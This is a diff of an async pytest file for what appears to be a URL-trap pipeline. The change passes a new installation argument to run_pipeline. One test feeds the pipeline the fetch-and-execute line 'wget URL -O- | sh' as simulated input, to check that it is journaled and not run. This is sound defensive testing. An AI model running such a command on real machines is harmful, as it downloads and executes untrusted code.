@@ -276,7 +276,9 @@ async def test_the_process_takes_events_while_it_runs_and_ends_when_told(
     bench.fetcher.bodies[URL.decode()] = ELF
     monkeypatch.setattr(process, "BlockingFetcherClient", lambda path: bench.fetcher)
     ready, stop = asyncio.Event(), asyncio.Event()
-    running = asyncio.create_task(process.run_pipeline(bench.settings, tmp_path, ready.set, stop))
+    running = asyncio.create_task(
+        process.run_pipeline(bench.settings, tmp_path, ready.set, stop, installation="this")
+    )
     await asyncio.wait_for(ready.wait(), 30)
     # A command that no program of the machine carries out: the pipeline asks, the fetcher journals, the feed has it.
     bench.visit(b"wget " + URL + b" -O- | sh", runs=[])
@@ -302,4 +304,4 @@ async def test_a_store_that_cannot_be_opened_ends_the_process_with_its_reason(tm
 
     (tmp_path / "urltrap.db").write_bytes(b"no database " * 999)
     with pytest.raises(StoreCorrupt):
-        await process.run_pipeline(Settings(), tmp_path, lambda: None, asyncio.Event())
+        await process.run_pipeline(Settings(), tmp_path, lambda: None, asyncio.Event(), installation="this")
